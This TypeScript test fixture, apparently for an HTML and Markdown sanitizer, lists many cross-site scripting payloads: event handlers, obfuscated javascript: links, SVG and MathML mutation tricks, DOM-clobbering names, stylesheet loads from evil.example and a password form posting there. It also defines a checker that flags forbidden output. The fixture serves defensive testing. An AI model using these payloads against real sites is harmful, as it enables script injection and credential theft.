/** HTML that tries to run `window.__ran()`, to load something, to send something, or to take over a name. One trick each. */
export const hostileHtml: readonly string[] = [
  // Script elements
  '<script>__ran()</script>',
  '<SCRIPT>__ran()</SCRIPT>',
  '<script src="https://evil.example/x.js"></script>',
  '<script\n>__ran()</script >',
  '<scr<script>ipt>__ran()</scr</script>ipt>',
  '<script type="module">__ran()</script>',
  '<div><script>__ran()<!--</script>--></div>',
  '<noscript><p title="</noscript><img src=x onerror=__ran()>"></noscript>',
  // Event handlers
  '<img src=x onerror=__ran()>',
  '<img src="https://a.example/b.png" onerror="__ran()">',
  '<img/src=x/onerror=__ran()>',
  '<img src=x\tonerror\n=__ran()>',
  '<img src=x OnErRoR=__ran()>',
  '<body onload=__ran()>text',
  '<p onclick="__ran()" onmouseover=__ran()>text</p>',
  '<p style="animation:x" onanimationstart=__ran()>text</p>',
  '<input autofocus onfocus=__ran()>',
  '<details open ontoggle=__ran()><summary>text</summary></details>',
  '<video autoplay onloadstart=__ran()><source onerror=__ran()></video>',
  '<audio src=x onerror=__ran()></audio>',
  '<marquee onstart=__ran()>text</marquee>',
  '<a href="https://a.example" onfocus=__ran() autofocus tabindex=0>text</a>',
  '<div contenteditable autofocus onfocus=__ran()>text</div>',
  '<table background="javascript:__ran()" onmouseenter=__ran()><tr><td>text</td></tr></table>',
  '<p popover id=x ontoggle=__ran()>text</p><button popovertarget=x>open</button>',
  // Addresses
  '<a href="javascript:__ran()">text</a>',
  '<a href=" javascript:__ran()">text</a>',
  '<a href="java\nscript:__ran()">text</a>',
  '<a href="java\tscript:__ran()">text</a>',
  '<a href="&#106;avascript:__ran()">text</a>',
  '<a href="&#x6A;&#x61;vascript&colon;__ran()">text</a>',
  '<a href="JaVaScRiPt:__ran()">text</a>',
  '<a href="\u0001javascript:__ran()">text</a>',
  '<a href="javascript&Tab;:__ran()">text</a>',
  '<a href="//evil.example">text</a>',
  '<a href="/relative">text</a>',
  '<a href="#anchor">text</a>',
  '<a href="http://a.example">text</a>',
  '<a href="ht\ntps://a.example">text</a>',
  '<a href="vbscript:msgbox(1)">text</a>',
  '<a href="data:text/html,<script>__ran()</script>">text</a>',
  '<a href="blob:https://a.example/x">text</a>',
  '<a href="https:javascript:__ran()">text</a>',
  '<a href="https://a.example" ping="https://evil.example" download>text</a>',
  '<img src="javascript:__ran()">',
  '<img src="data:image/svg+xml,<svg onload=__ran()>">',
  '<img src="data:image/png;base64,AAAA">',
  '<img src="http://a.example/b.png">',
  '<img srcset="javascript:__ran() 1x" src="https://a.example/b.png" sizes=1>',
  '<img src="https://a.example/b.png" usemap="#m"><map name=m><area href="javascript:__ran()"></map>',
  '<picture><source srcset="data:,x"><img src=x onerror=__ran()></picture>',
  // Frames and plugins
  '<iframe srcdoc="<script>parent.__ran()</script>"></iframe>',
  '<iframe src="javascript:parent.__ran()"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="javascript:__ran()"></object>',
  '<embed src="javascript:__ran()">',
  '<frameset onload=__ran()><frame src="javascript:__ran()"></frameset>',
  '<portal src="https://evil.example"></portal>',
  // SVG and MathML
  '<svg onload=__ran()></svg>',
  '<svg><script>__ran()</script></svg>',
  '<svg><a xlink:href="javascript:__ran()"><text y=9>text</text></a></svg>',
  '<svg><animate onbegin=__ran() attributeName=x dur=1s></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=__ran()>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=__ran()></foreignObject></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:__ran()">text</maction></math>',
  '<math href="javascript:__ran()">text</math>',
  // Mutation: what is harmless when parsed and not when parsed again
  '<svg></p><style><a title="</style><img src=x onerror=__ran()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__ran()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__ran()>',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=__ran()>">',
  '<svg><title><style><img title="</style><img src=x onerror=__ran()>"></title></svg>',
  '<p title="--><img src=x onerror=__ran()>"><!--</p>-->',
  '<!--><img src=x onerror=__ran()>-->',
  '<!--!><img src=x onerror=__ran()>-->',
  '<![CDATA[><img src=x onerror=__ran()>]]>',
  '<?xml-stylesheet ><img src=x onerror=__ran()> ?>',
  '<textarea><img title="</textarea><img src=x onerror=__ran()>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=__ran()>"></xmp>',
  '<title><img title="</title><img src=x onerror=__ran()>"></title>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=__ran()>"></a>',
  `${'<div>'.repeat(600)}<style><img src=x onerror=__ran()></style>${'</div>'.repeat(600)}`,
  // Templates and components
  '<template><img src=x onerror=__ran()></template>',
  '<template shadowrootmode=open><img src=x onerror=__ran()></template>',
  '<p is="x-evil">text</p><x-evil onclick=__ran()>text</x-evil>',
  '<slot onslotchange=__ran()>text</slot>',
  // Styles
  '<style>* { background: url(https://evil.example) }</style>',
  '<style>@import "https://evil.example";</style>',
  '<p style="background:url(https://evil.example)">text</p>',
  '<p style="position:fixed;inset:0;width:expression(__ran())">text</p>',
  '<link rel=stylesheet href="https://evil.example">',
  '<p class="fixed inset-0">text</p>',
  // Forms and the page itself
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<form id=f></form><button form=f formaction="javascript:__ran()">text</button>',
  '<isindex type=image src=1 onerror=__ran()>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:__ran()">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<dialog open>text<button>Close</button></dialog>',
  // Names that take over the page's own
  '<img id=ran name=__ran src="https://a.example/b.png">',
  '<a id=designer href="https://a.example"></a><a id=designer name=open href="https://a.example"></a>',
  '<form name=body><input name=firstChild><input name=attributes></form>',
  '<form id=x><input name=childNodes><input name=removeChild><img src=x onerror=__ran()></form>',
  '<p id="__proto__" name="getElementById">text</p>',
]

/** The same aims, through Markdown. */
export const hostileMarkdown: readonly string[] = [
  '<script>__ran()</script>',
  '[text](javascript:__ran())',
  '[text](JaVaScRiPt:__ran())',
  '[text](java&#115;cript:__ran())',
  '[text](<java\tscript:__ran()>)',
  '[text](data:text/html;base64,PHNjcmlwdD5fX3JhbigpPC9zY3JpcHQ+)',
  '[text][1]\n\n[1]: javascript:__ran()',
  '<javascript:__ran()>',
  '![x](javascript:__ran())',
  '![x](data:image/svg+xml,%3Csvg%20onload=__ran()%3E)',
  '![x" onerror="__ran()](https://a.example/b.png)',
  '![x](https://a.example/b.png"onerror="__ran())',
  '[x](https://a.example "title" onclick=__ran())',
  '**bold <img src=x onerror=__ran()> bold**',
  '# Heading <svg onload=__ran()>',
  '- item\n\n  <iframe srcdoc="<script>parent.__ran()</script>"></iframe>',
  '```html"><img src=x onerror=__ran()>\ncode\n```',
  '`<img src=x onerror=__ran()>`',
  '| a |\n|---|\n| <img src=x onerror=__ran()> |',
  '<a href="\njavascript:__ran()">text</a>',
  '<style>* { color: red }</style>\n\ntext',
  '<p id=designer style="position:fixed">text</p>',
]

const TAGS =
  'h1 h2 h3 h4 h5 h6 p div span br hr ul ol li blockquote pre code b strong i em u s strike del sub sup table caption thead tbody tfoot tr td th a img'.split(
    ' ',
  )
const ATTRIBUTES = 'href target rel src alt width height align colspan rowspan start'.split(' ')

/** What stands below `root` that must not: in words, none when all is well. `own` are attributes that the app itself adds. */
export function findForbidden(root: Element | DocumentFragment, own: readonly string[] = []): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => [
    ...(TAGS.includes(element.localName) && element.namespaceURI === 'http://www.w3.org/1999/xhtml'
      ? []
      : [`element ${element.localName}`]),
    ...[...element.attributes].flatMap(({ name, value }) => {
      if (!ATTRIBUTES.includes(name)) return own.includes(name) ? [] : [`attribute ${name}`]
      if ((name === 'href' || name === 'src') && !/^https:\/\/\S+$/.test(value)) return [`${name}=${value}`]
      return []
    }),
  ])
}
